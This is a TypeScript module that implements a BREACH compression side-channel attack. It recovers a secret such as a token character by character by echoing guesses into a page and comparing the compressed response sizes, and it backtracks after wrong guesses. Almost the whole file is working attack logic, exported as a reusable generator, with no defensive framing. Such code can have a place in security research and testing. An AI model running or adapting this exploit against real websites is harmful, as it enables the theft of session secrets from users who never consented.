/** The characters of base64url (RFC 4648 §5). */
const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

/** Characters of the known text before a guess: a match of this length is good enough for the fastest gzip. */
const CONTEXT = 6

/**
 * Short common letters after a guess. Each shifts the end of the page by some bits, so that the sum of several lengths
 * shows a difference of less than a byte.
 */
const PADDING = 'oaeiuaoeuio'

/** Rounds after which a lead decides; before, a guess may be one byte behind. */
const LENIENT_ROUNDS = 3

/** Fewest rounds for a character. */
const FEWEST_ROUNDS = 4

/** Characters that are tried in the place of a wrong one. */
const ALTERNATIVES = 5

/** Most steps back, where no guess stands out after a wrong one. */
const MOST_STEPS_BACK = 6

/** A secret on a page that echoes text beside it. */
export interface GuessedSecret {
  /**
   * Texts of the page that end before the secret, the longest first. The fastest gzip remembers where a match began, and
   * nothing inside it, so that only one of them is found.
   */
  readonly prefixes: readonly string[]
  /** Length in characters. */
  readonly length: number
  /** Returns the length in bytes of the compressed page that echoes a text. */
  readonly measure: (echoed: string) => Promise<number>
}

/** The guesses of one character. */
interface Ranking {
  /** The best first. */
  readonly characters: readonly string[]
  /** Bytes by which a page with the best guess is shorter than one with a usual guess. */
  readonly lead: number
}

/**
 * The guess, and then every other character, so that all pages hold the same characters. Between two of them stands a
 * character that no page has: without it, the row that lacks the guess 4 has 3567 in it, and a page that names the port
 * 35671 would be shorter for this guess.
 */
function echoed(context: string, character: string, padding: string): string {
  return `${context}${character}${padding}.${[...ALPHABET.replace(character, '')].join('~')}`
}

/** Measures every character after a context, and drops those whose pages are longer. */
async function rank(context: string, measure: GuessedSecret['measure']): Promise<Ranking> {
  const sums = new Map([...ALPHABET].map(each => [each, 0]))
  const byLength = (a: string, b: string) => sums.get(a)! - sums.get(b)!
  let left = [...ALPHABET]
  /** The last one dropped first. */
  const dropped: string[] = []
  // A guess of usual length, measured to the end, so that the lead of the best one is known.
  let usual = ''
  let usualSum = 0
  let rounds = 0
  while (rounds <= PADDING.length && (left.length > 1 || rounds < FEWEST_ROUNDS)) {
    const padding = PADDING.slice(0, rounds)
    for (const each of left) {
      sums.set(each, sums.get(each)! + (await measure(echoed(context, each, padding))))
    }
    usual ||= [...left].sort(byLength)[left.length / 2]!
    usualSum += await measure(echoed(context, usual, padding))
    rounds += 1
    const least = Math.min(...left.map(each => sums.get(each)!))
    const most = least + (rounds <= LENIENT_ROUNDS ? 1 : 0)
    dropped.unshift(...left.filter(each => sums.get(each)! > most).sort(byLength))
    left = left.filter(each => sums.get(each)! <= most)
    // No guess is shorter than the others: what is known is wrong, or the page hides its secret.
    if (rounds > LENIENT_ROUNDS && usualSum <= least) break
  }
  return { characters: [...left, ...dropped], lead: (usualSum - sums.get(left[0]!)!) / rounds }
}

/** True for a text that repeats itself: an echo of such a text compresses by its own beginning, whatever the page holds. */
function isRun(context: string): boolean {
  return context.length === CONTEXT && /^(.{1,3}?)\1+$/.test(context)
}

/** The guesses after the first context that makes one of them stand out. */
async function bestOf(contexts: readonly string[], measure: GuessedSecret['measure']): Promise<Ranking> {
  let found: Ranking = { characters: [], lead: 0 }
  for (const context of contexts) {
    if (found.lead <= 0) found = await rank(context, measure)
  }
  return found
}

/**
 * Recovers a secret character by character from the lengths of compressed pages (BREACH). Yields what is known after each
 * character. Returns undefined when no guess stands out.
 */
export async function* recover(secret: GuessedSecret): AsyncGenerator<string, string | undefined, void> {
  const { prefixes, length, measure } = secret
  let known = ''
  let back = 0
  const waiting: string[][] = []
  while (known.length < length) {
    const contexts = known.length < CONTEXT ? prefixes.map(each => each + known) : [known.slice(-CONTEXT)]
    const { characters, lead } = await bestOf(contexts, measure)
    if (lead > 0 && !isRun(known.slice(-CONTEXT))) {
      waiting.push(characters.slice(1, 1 + ALTERNATIVES))
      known += characters[0]
      yield known
      continue
    }
    // The last character was wrong: try the next one.
    let next: string | undefined
    while (next === undefined && waiting.length > 0) {
      known = known.slice(0, -1)
      next = waiting.at(-1)?.shift()
      if (next === undefined) waiting.pop()
    }
    back += 1
    if (next === undefined || back > MOST_STEPS_BACK) return undefined
    known += next
  }
  return known
}
